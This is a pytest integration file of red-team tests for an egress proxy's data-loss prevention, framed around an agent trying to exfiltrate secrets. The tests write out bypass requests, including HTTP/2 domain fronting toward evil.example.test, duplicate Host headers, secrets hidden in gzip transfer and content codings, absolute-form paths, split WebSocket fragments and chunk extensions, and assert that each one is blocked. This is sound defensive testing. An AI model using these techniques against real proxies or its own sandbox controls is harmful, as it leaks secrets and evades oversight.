"""Red-team findings against the hardened egress: each test is an attack an agent that
reads our code would try, asserting on what the recording upstream actually received.

Domain fronting through a second host name: the egress checks that the CONNECT target,
the SNI and the request's Host agree, but an HTTP/2 request carries its host twice
(`:authority` and a `host` header). mitmproxy's `host_header` reads `:authority` only,
and when it downgrades the request to HTTP/1.1 it keeps the `host` header the agent
sent, so the upstream (a CDN serving many names at the allowed host's address) would
route the request by the unchecked name.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import uuid
import zlib

import pytest
from egress_harness import CANARY, SECRET, Egress
from egress_raw import (
    Recorder,
    h2_head,
    h2_request,
    is_closed,
    proxy_addr,
    read_until_closed,
    tls_tunnel,
    websocket,
)
from egress_upstream import Upstream, ws_frame

pytestmark = pytest.mark.integration

API = "api.example.test"
FRONTED = "evil.example.test"


def _hosts_seen(up: Upstream, marker: str) -> list[str]:
    return [str(r.header("host")) for r in list(up.records) if marker in r.path]


def test_h2_host_header_disagreeing_with_authority(egress: Egress, upstream: Upstream) -> None:
    marker = f"front{uuid.uuid4().hex[:10]}"
    tls = tls_tunnel(egress, API, upstream.port, alpn=["h2"])
    head = h2_head(API, upstream.port, f"/v1/{marker}", "GET", [(b"host", FRONTED.encode())])
    res = h2_request(tls, head)
    tls.close()
    assert not any(FRONTED in h for h in _hosts_seen(upstream, marker)), res
    assert res.status in (None, 400, 403), res


def test_h2_host_header_agreeing_with_authority_still_works(
    egress: Egress, upstream: Upstream
) -> None:
    marker = f"same{uuid.uuid4().hex[:10]}"
    tls = tls_tunnel(egress, API, upstream.port, alpn=["h2"])
    extra = [(b"host", f"{API}:{upstream.port}".encode())]
    res = h2_request(tls, h2_head(API, upstream.port, f"/v1/{marker}", "GET", extra))
    tls.close()
    assert res.status == 200, res
    assert _hosts_seen(upstream, marker) == [f"{API}:{upstream.port}"]


@pytest.mark.parametrize(
    "hosts",
    [
        [f"{API}", FRONTED],
        [FRONTED, f"{API}"],
    ],
)
def test_h1_two_host_headers(egress: Egress, upstream: Upstream, hosts: list[str]) -> None:
    marker = f"twohost{uuid.uuid4().hex[:10]}"
    sock = socket.create_connection(proxy_addr(egress), timeout=10)
    lines = "".join(f"Host: {h}:{upstream.port}\r\n" for h in hosts)
    sock.sendall(
        f"GET http://{API}:{upstream.port}/v1/{marker} HTTP/1.1\r\n{lines}"
        "Connection: close\r\n\r\n".encode()
    )
    answer = read_until_closed(sock)
    sock.close()
    assert not any(FRONTED in h for h in _hosts_seen(upstream, marker)), answer[:200]


# --- transfer codings the DLP does not decode ----------------------------------------
#
# A request body in `Transfer-Encoding: gzip, chunked` reaches the addon as the gzip
# stream (mitmproxy removes only the chunking, and `get_content` decodes
# Content-Encoding, not Transfer-Encoding), is scanned compressed, and is forwarded with
# its transfer coding for the upstream to undo.


def _chunked(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n0\r\n\r\n"


@pytest.mark.parametrize("coding", ["gzip, chunked", "deflate, chunked", "GZIP,chunked"])
def test_request_transfer_coding_hides_no_secret(egress: Egress, coding: str) -> None:
    rec = Recorder("127.0.0.1", reply=b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n").start()
    marker = f"tecode{uuid.uuid4().hex[:10]}"
    body = f"leak={CANARY}".encode()
    packed = gzip.compress(body) if "gzip" in coding.lower() else zlib.compress(body)
    try:
        sock = socket.create_connection(proxy_addr(egress), timeout=10)
        sock.sendall(
            f"POST http://loop.example.test:{rec.port}/{marker} HTTP/1.1\r\n"
            f"Host: loop.example.test:{rec.port}\r\nTransfer-Encoding: {coding}\r\n"
            "Connection: close\r\n\r\n".encode()
            + _chunked(packed)
        )
        answer = read_until_closed(sock)
        sock.close()
        got = rec.all_bytes()
    finally:
        rec.stop()
    # Whatever arrived, compressed or not, must not be the secret.
    assert packed not in got and CANARY.encode() not in got, (answer[:200], got[:300])
    assert answer.startswith(b"HTTP/1.1 403") and b"x-bot-bottle-denied: header" in answer


def test_plain_chunked_body_still_forwarded(egress: Egress, upstream: Upstream) -> None:
    marker = f"chunk{uuid.uuid4().hex[:10]}"
    tls = tls_tunnel(egress, API, upstream.port)
    tls.sendall(
        f"POST /v1/{marker} HTTP/1.1\r\nHost: {API}:{upstream.port}\r\n"
        "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n".encode()
        + _chunked(b"hello")
    )
    answer = read_until_closed(tls)
    tls.close()
    assert [r.body for r in upstream.records if marker in r.path] == [b"hello"], answer[:300]


# --- content codings mitmproxy alone does not decode ------------------------------------
#
# mitmproxy's `get_content(strict=False)` hands back the raw bytes for a coding it does
# not know: `x-gzip` (RFC 9110 §8.4.1.3: the same as gzip), a list of codings
# (`gzip, gzip`). The upstream, which does know, would decompress what a scan of those
# bytes never read; the egress decodes every layer itself (policy/content_coding.py).


@pytest.mark.parametrize("coding", ["x-gzip", "gzip, gzip", "identity, gzip"])
def test_content_coding_hides_no_secret(egress: Egress, upstream: Upstream, coding: str) -> None:
    marker = f"cecode{uuid.uuid4().hex[:10]}"
    body = f"leak={CANARY}".encode()
    packed = gzip.compress(body)
    if coding == "gzip, gzip":
        packed = gzip.compress(packed)
    tls = tls_tunnel(egress, API, upstream.port)
    tls.sendall(
        f"POST /v1/{marker} HTTP/1.1\r\nHost: {API}:{upstream.port}\r\n"
        f"Content-Encoding: {coding}\r\nContent-Length: {len(packed)}\r\n"
        "Connection: close\r\n\r\n".encode()
        + packed
    )
    answer = read_until_closed(tls)
    tls.close()
    got = [r.body for r in upstream.records if marker in r.path]
    assert got == [], answer[:300]
    # The egress undoes every layer (x-gzip is gzip; a list is applied in order), so
    # DLP reads the canary itself.
    assert answer.startswith(b"HTTP/1.1 403") and b"x-bot-bottle-denied: canary" in answer


@pytest.mark.parametrize("coding", ["gzip", "GZIP", "deflate", "identity"])
def test_decodable_content_coding_is_scanned_and_clean_one_forwarded(
    egress: Egress, upstream: Upstream, coding: str
) -> None:
    def pack(data: bytes) -> bytes:
        c = coding.lower()
        return (
            gzip.compress(data, mtime=0)
            if c == "gzip"
            else zlib.compress(data)
            if c == "deflate"
            else data
        )

    answers = {}
    for name, body in (("secret", f"leak={CANARY}".encode()), ("clean", b"hello")):
        marker = f"ce{name}{uuid.uuid4().hex[:8]}"
        tls = tls_tunnel(egress, API, upstream.port)
        packed = pack(body)
        tls.sendall(
            f"POST /v1/{marker} HTTP/1.1\r\nHost: {API}:{upstream.port}\r\n"
            f"Content-Encoding: {coding}\r\nContent-Length: {len(packed)}\r\n"
            "Connection: close\r\n\r\n".encode()
            + packed
        )
        answers[name] = (
            read_until_closed(tls),
            [r.body for r in upstream.records if marker in r.path],
        )
        tls.close()
    assert answers["secret"][1] == [] and b"x-bot-bottle-denied: canary" in answers["secret"][0]
    assert answers["clean"][1] == [pack(b"hello")], answers["clean"][0][:300]


# --- a request target that names another host -------------------------------------------
#
# An HTTP/2 `:path` must be origin-form (`/...`, or `*` for OPTIONS; RFC 9113 §8.3.1). An
# absolute URI there survives the downgrade to HTTP/1.1 as an absolute-form request line,
# whose host an upstream must prefer over Host (RFC 9112 §3.2.2): a CDN at the allowed
# host's address would route the request to the host named in the path.


@pytest.mark.parametrize(
    "path",
    [
        "http://evil.example.test/v1/{m}",
        "https://evil.example.test/v1/{m}",
        "//evil.example.test/v1/{m}",
        "v1/{m}",
    ],
)
def test_h2_path_not_origin_form(egress: Egress, upstream: Upstream, path: str) -> None:
    marker = f"abs{uuid.uuid4().hex[:10]}"
    tls = tls_tunnel(egress, "other.example.test", upstream.port, alpn=["h2"])
    head = h2_head("other.example.test", upstream.port, path.format(m=marker))
    res = h2_request(tls, head)
    tls.close()
    seen = [(r.path, r.header("host")) for r in upstream.records if marker in r.path]
    # Refused, or (`//host/...`) forwarded as the normalized path it was checked as: never
    # as a target naming another host.
    fronted = [(p, h) for p, h in seen if not p.startswith("/") or p.startswith("//")
               or "other.example.test" not in str(h)]  # fmt: skip
    assert fronted == [], res


# --- a WebSocket secret split across fragments, a control frame between them ----------


def _fragment(opcode: int, data: bytes, fin: bool) -> bytes:
    frame = ws_frame(opcode, data, mask=b"k3y!")
    return bytes([frame[0] & 0x7F | (0x80 if fin else 0)]) + frame[1:]


def test_websocket_secret_split_across_fragments(egress: Egress, upstream: Upstream) -> None:
    half = len(SECRET) // 2
    tls = websocket(egress, "api.example.test", upstream.port)
    tls.sendall(_fragment(1, f"x {SECRET[:half]}".encode(), fin=False))
    tls.sendall(_fragment(9, b"keepalive", fin=True))  # control frames may interleave
    with contextlib.suppress(OSError):
        tls.sendall(_fragment(0, f"{SECRET[half:]} y".encode(), fin=True))
    assert is_closed(tls), "the connection stayed open after a split secret"
    tls.close()
    frames = list(upstream.ws_frames)
    assert not any(SECRET[:half].encode() in d or SECRET[half:].encode() in d for _, d in frames)


def test_chunk_extension_carries_no_secret(egress: Egress) -> None:
    # Chunk extensions (`5;name=value`) are framing, not body: DLP never sees them, so
    # they must not be relayed either (the proxy re-chunks or states a length).
    rec = Recorder("127.0.0.1", reply=b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n").start()
    marker = f"chunkext{uuid.uuid4().hex[:10]}"
    try:
        sock = socket.create_connection(proxy_addr(egress), timeout=10)
        sock.sendall(
            f"POST http://loop.example.test:{rec.port}/{marker} HTTP/1.1\r\n"
            f"Host: loop.example.test:{rec.port}\r\nTransfer-Encoding: chunked\r\n"
            f"Connection: close\r\n\r\n5;leak={CANARY}\r\nhello\r\n0\r\n\r\n".encode()
        )
        answer = read_until_closed(sock)
        sock.close()
        got = rec.all_bytes()
    finally:
        rec.stop()
    assert CANARY.encode() not in got, (answer[:200], got[:300])
